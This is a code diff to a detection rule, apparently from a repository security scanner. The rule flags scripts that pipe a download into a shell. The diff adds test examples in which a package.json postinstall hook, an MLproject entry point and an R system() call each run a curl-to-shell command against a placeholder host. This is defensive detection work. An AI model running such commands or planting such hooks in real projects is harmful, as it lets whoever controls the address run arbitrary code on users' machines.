@@ -11,7 +11,15 @@ export const shellDownload: ModelRule = {
   why: 'The script pipes a download into a shell: whoever holds that address decides what runs. Well-known installers are left out.',
   remedy: 'Read what is downloaded, pin it by its digest, or leave the script unused.',
   examples: {
-    fires: [example('install.sh', '#!/bin/sh\ncurl -s https://acme.example/setup | bash\n')],
+    fires: [
+      example('install.sh', '#!/bin/sh\ncurl -s https://acme.example/setup | bash\n'),
+      example('package.json', '{"scripts": {"postinstall": "curl -s https://acme.example/setup | sh"}}'),
+      example(
+        'MLproject',
+        'entry_points:\n  main:\n    command: "curl -s https://acme.example/setup | sh"\n',
+      ),
+      example('model.R', 'system("curl -s https://acme.example/setup | sh")\n'),
+    ],
     silent: [
       example(
         'install.sh',
